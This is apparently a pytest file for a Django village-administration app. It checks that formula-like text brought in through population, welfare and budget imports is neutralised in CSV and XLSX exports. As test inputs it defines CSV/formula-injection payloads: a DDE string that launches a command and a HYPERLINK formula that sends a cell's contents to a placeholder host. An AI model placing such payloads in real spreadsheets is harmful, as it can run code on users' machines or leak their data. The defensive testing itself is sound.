"""Text that looks like a formula, brought in through each import, comes out of each export as
text that no spreadsheet runs: CSVs put an apostrophe before it (balai.lib.exports.safe_cell),
XLSX files store it as a string cell, never a formula. The imports keep such text as typed
(a name may really start with "-" or "@"); the exports are where it is made harmless."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from django.urls import reverse

from balai.budget.tests.conftest import TEMPLATE_CSV, csv_upload, make_year
from balai.imports.models import ImportJob
from balai.population.tests.conftest import family
from balai.population.tests.conftest import upload as population_upload
from balai.population.tests.conftest import xlsx_bytes as population_xlsx
from balai.welfare.tests.conftest import blt, good_rows, register  # noqa: F401 - fixtures used below
from balai.welfare.tests.conftest import upload as welfare_upload
from balai.welfare.tests.conftest import xlsx_bytes as welfare_xlsx

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://contoh.invalid/?"&A2,"Klik")'
DDE = "=cmd|' /C calc'!A0"
SHORT = '=HYPERLINK("http://x.invalid")'  # fits a card number
TRAPS = (LINK, DDE, "@SUM(1+1)", "+HYPERLINK(1)", "-2+3")


def _confirm(client, name: str, job: ImportJob) -> ImportJob:
    client.post(reverse(name, kwargs={"slug": "dagan", "pk": job.pk}))
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE, job.report
    return job


def _csv_cells(response) -> list[str]:
    text = b"".join(response).decode("utf-8-sig") if response.streaming else response.content
    if isinstance(text, bytes):
        text = text.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_safe(cells: list[str], expected: tuple[str, ...]) -> None:
    for trap in expected:
        assert "'" + trap in cells, (trap, cells)
    assert not any(c.startswith(("=", "+", "@")) for c in cells), cells


def _xlsx_is_text_only(content: bytes, expected: tuple[str, ...]) -> None:
    texts: set[str] = set()
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            part = book.read(name)
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", part), f"{name} holds a formula"
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml":
                texts |= {
                    t.text or ""
                    for t in ElementTree.fromstring(part).iter()
                    if t.tag.endswith("}t")
                }
    for trap in expected:
        assert trap in texts, (trap, sorted(texts)[:20])


def test_population_import_into_the_register_export_and_the_public_statistics(admin_client, dagan):
    rows = family(1, dusun=LINK)
    rows[0] = {**rows[0], "nama": DDE, "tempatlahir": "@SUM(1+1)"}
    rows[1] = {**rows[1], "suku": "+HYPERLINK(1)"}
    imports = reverse("population_dashboard:imports", kwargs={"slug": "dagan"})
    admin_client.post(imports, {"file": population_upload(population_xlsx(rows))})
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.CHECKED, job.report
    _confirm(admin_client, "population_dashboard:import_confirm", job)

    export = admin_client.post(reverse("population_dashboard:export", kwargs={"slug": "dagan"}))
    _xlsx_is_text_only(b"".join(export.streaming_content), (LINK, DDE, "@SUM(1+1)"))

    public = reverse(
        "site:population_download",
        kwargs={"village_slug": "dagan", "kategori": "dusun", "fmt": "csv"},
    )
    _assert_csv_safe(_csv_cells(admin_client.get(public)), (LINK,))


def test_welfare_import_into_the_staff_export(client, alice, register, blt):  # noqa: F811
    client.force_login(alice)
    rows = good_rows()
    # Names come from the register (matched by No. KK); card numbers and reasons from the file.
    rows[0] = {**rows[0], "nomor_kartu": SHORT}
    rows[1] = {**rows[1], "nomor_kartu": "@KKS-1", "alasan": DDE}
    url = reverse("welfare_dashboard:imports", kwargs={"slug": "dagan"})
    client.post(url, {"programme": blt.pk, "file": welfare_upload(welfare_xlsx(rows))})
    job = ImportJob.objects.latest("pk")
    assert job.status == ImportJob.Status.CHECKED, job.report
    _confirm(client, "welfare_dashboard:import_confirm", job)

    export = client.post(
        reverse("welfare_dashboard:export", kwargs={"slug": "dagan", "pk": blt.pk})
    )
    assert "no-store" in export["Cache-Control"]
    _assert_csv_safe(_csv_cells(export), (SHORT, DDE, "@KKS-1"))


def test_budget_import_into_the_public_apbdes_csv(client, alice, dagan):
    client.force_login(alice)
    make_year(dagan, 2025)
    text = TEMPLATE_CSV.replace("Siltap kepala desa", LINK).replace("Insentif kader", "@Insentif")
    start = reverse("budget_dashboard:import_start", kwargs={"slug": "dagan", "year": 2025})
    response = client.post(start, {"file": csv_upload(text), "realised_on": "2025-06-30"})
    assert response.status_code == 302, response.content.decode()[:2000]
    job = ImportJob.objects.latest("pk")
    assert job.status == ImportJob.Status.CHECKED, job.report
    _confirm(client, "budget_dashboard:import_confirm", job)

    client.logout()
    url = reverse("site:budget_year_csv", kwargs={"village_slug": "dagan", "tahun": 2025})
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    _assert_csv_safe(_csv_cells(response), (LINK,))
    assert any(c.startswith("'@Insentif") for c in _csv_cells(response))


def test_a_welfare_cell_too_long_for_its_field_is_refused_not_cut(client, alice, register, blt):  # noqa: F811
    client.force_login(alice)
    rows = good_rows()
    rows[0] = {**rows[0], "nomor_kartu": LINK}
    url = reverse("welfare_dashboard:imports", kwargs={"slug": "dagan"})
    client.post(url, {"programme": blt.pk, "file": welfare_upload(welfare_xlsx(rows))})
    job = ImportJob.objects.latest("pk")
    assert job.status == ImportJob.Status.REFUSED
    assert [(row, column) for row, column, _reason in job.report["errors"]] == [(2, "nomor_kartu")]
